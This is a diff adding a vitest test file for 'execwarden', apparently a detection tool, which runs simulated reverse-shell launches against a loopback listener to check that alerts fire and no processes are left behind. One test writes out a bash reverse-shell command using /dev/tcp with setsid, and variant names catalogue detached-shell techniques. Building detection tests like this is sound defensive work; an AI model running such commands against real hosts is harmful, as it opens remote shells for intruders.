@@ -1,0 +1,139 @@
+/**
+ * The simulations for real: each opens its listener, its payload reaches it (or, for look-alikes
+ * without a connection, does not), and nothing is left running or listening afterwards.
+ */
+import { connect } from 'node:net';
+import { PassThrough } from 'node:stream';
+import { describe, expect, it } from 'vitest';
+import { simulateAction } from '../../src/cli/simulate.js';
+import { openLoopbackListener } from '../../src/lab/loopback-listener.js';
+import { startExecStorm } from '../../src/lab/exec-storm.js';
+import { findMarkedProcesses } from '../../src/lab/process-sweep.js';
+import { runSimulation, runSimulations, selectVariants } from '../../src/lab/simulation.js';
+import { findExecutable } from '../../src/lab/system-tools.js';
+import { LAB_VARIANTS, missingTools, SEED_RULE_ID } from '../../src/lab/variants.js';
+
+function refused(port: number): Promise<boolean> {
+  return new Promise((resolve) => {
+    const socket = connect({ host: '127.0.0.1', port });
+    socket.once('connect', () => {
+      socket.destroy();
+      resolve(false);
+    });
+    socket.once('error', () => resolve(true));
+  });
+}
+
+function captureIo() {
+  const stdout = new PassThrough();
+  let text = '';
+  stdout.on('data', (c: Buffer) => (text += c.toString()));
+  return { io: { stdout, stderr: new PassThrough() }, text: () => text };
+}
+
+describe('the variant catalogue', () => {
+  it('has unique names, covers setsid and nohup from bash and sh, and benign look-alikes', () => {
+    const names = LAB_VARIANTS.map((v) => v.name);
+    expect(new Set(names).size).toBe(names.length);
+    for (const name of ['bash-setsid', 'bash-nohup', 'sh-setsid', 'dash-nohup', 'bash-setsid-fork', 'bash-setsid-absolute']) {
+      expect(names).toContain(name);
+    }
+    expect(LAB_VARIANTS.filter((v) => !v.expectAlert).length).toBeGreaterThanOrEqual(4);
+    for (const v of LAB_VARIANTS) expect(v.expectedRuleId).toBe(v.expectAlert ? SEED_RULE_ID : null);
+  });
+
+  it('rejects unknown names with the list command as a hint', () => {
+    expect(() => selectVariants(['bash-setsid', 'nope'])).toThrow(/unknown simulation "nope" \(see: execwarden simulate --list\)/);
+  });
+
+  it('puts the marker in the payload command line next to /dev/tcp and 0>&1', () => {
+    const variant = selectVariants(['bash-setsid'])[0]!;
+    const launch = variant.launch({ port: 4444, marker: 'lab-x-1', tool: (n) => `/usr/bin/${n}`, scratchDir: '/tmp/s' });
+    expect(launch).toEqual({ file: '/usr/bin/bash', args: ['-c', "setsid bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 #lab-x-1'; exit 0"] });
+  });
+});
+
+describe('running the simulations', () => {
+  it('every runnable variant behaves as designed and leaves nothing behind', async () => {
+    const results = await runSimulations(LAB_VARIANTS);
+    for (const [i, variant] of LAB_VARIANTS.entries()) {
+      const result = results[i]!;
+      const missing = missingTools(variant);
+      if (missing.length > 0) {
+        expect(result, variant.name).toMatchObject({ status: 'skipped', skipReason: `${missing.join(', ')} not installed` });
+        continue;
+      }
+      expect(result.problem, variant.name).toBeUndefined();
+      expect(result.status, variant.name).toBe('ran');
+      expect(result.connections, variant.name).toBe(variant.connects ? 1 : 0);
+      expect(result.exitCode, variant.name).toBe(0);
+      expect(result.leftovers, variant.name).toBe(0);
+      expect(findMarkedProcesses(result.marker), variant.name).toEqual([]);
+      expect(await refused(result.port), `${variant.name}: listener closed`).toBe(true);
+    }
+    // bash and sh are everywhere this runs; their variants must not be skipped.
+    expect(results.filter((r) => r.status === 'ran').length).toBeGreaterThanOrEqual(14);
+  });
+
+  it('kills a payload that never ends, at the time limit', async () => {
+    const variant = { ...selectVariants(['bash-setsid'])[0]!, connects: false };
+    const hung = { ...variant, launch: () => ({ file: findExecutable('bash')!, args: ['-c', 'setsid sleep 30 & sleep 30'] }) };
+    const result = await runSimulation(hung, { timeoutMs: 300 });
+    expect(result.exitCode).toBeNull();
+    expect(result.problem).toBe('the launcher did not finish in time');
+    expect(result.leftovers).toBeGreaterThanOrEqual(1);
+    expect(findMarkedProcesses(result.marker)).toEqual([]);
+  });
+});
+
+describe('the loopback listener', () => {
+  it('answers exit, counts the connection and closes', async () => {
+    const listener = await openLoopbackListener();
+    const received = await new Promise<string>((resolve) => {
+      const socket = connect({ host: '127.0.0.1', port: listener.port });
+      let data = '';
+      socket.on('data', (c) => (data += c.toString()));
+      socket.on('end', () => {
+        socket.end();
+        resolve(data);
+      });
+    });
+    expect(received).toBe('exit\n');
+    expect(await listener.waitForClosedConnections(1, 2000)).toBe(true);
+    expect(listener.connections()).toBe(1);
+    await listener.close();
+    expect(await refused(listener.port)).toBe(true);
+  });
+});
+
+describe('the exec storm', () => {
+  it('runs its loops until stopped, then leaves nothing', async () => {
+    const storm = startExecStorm(2);
+    await new Promise((r) => setTimeout(r, 200));
+    expect(findMarkedProcesses(storm.marker).length).toBeGreaterThanOrEqual(2);
+    storm.stop();
+    await new Promise((r) => setTimeout(r, 50));
+    expect(findMarkedProcesses(storm.marker)).toEqual([]);
+  });
+});
+
+describe('execwarden simulate', () => {
+  it('--list names every variant with its expectation', async () => {
+    const { io, text } = captureIo();
+    const result = await simulateAction({ list: true, names: [] }, io);
+    expect(result.exitCode).toBe(0);
+    const lines = text().trimEnd().split('\n');
+    expect(lines).toHaveLength(LAB_VARIANTS.length);
+    expect(lines[0]).toMatch(/^bash-setsid\s+expects alert\s+bash runs setsid/);
+    expect(text()).toMatch(/benign-node-parent\s+expects none/);
+  });
+
+  it('runs the named variants and reports the listener contact', async () => {
+    const { io, text } = captureIo();
+    const result = await simulateAction({ list: false, names: ['bash-setsid', 'benign-no-dev-tcp'] }, io);
+    expect(result.exitCode).toBe(0);
+    expect(text()).toMatch(/^ok {7}bash-setsid \(listener 127\.0\.0\.1:\d+ reached; should alert; marker lab-bash-setsid-[0-9a-f]{8}\)$/m);
+    expect(text()).toMatch(/^ok {7}benign-no-dev-tcp \(no connection; should not alert;/m);
+    expect(text()).toContain('2 simulation(s) run, 0 skipped, 0 failed');
+  });
+});
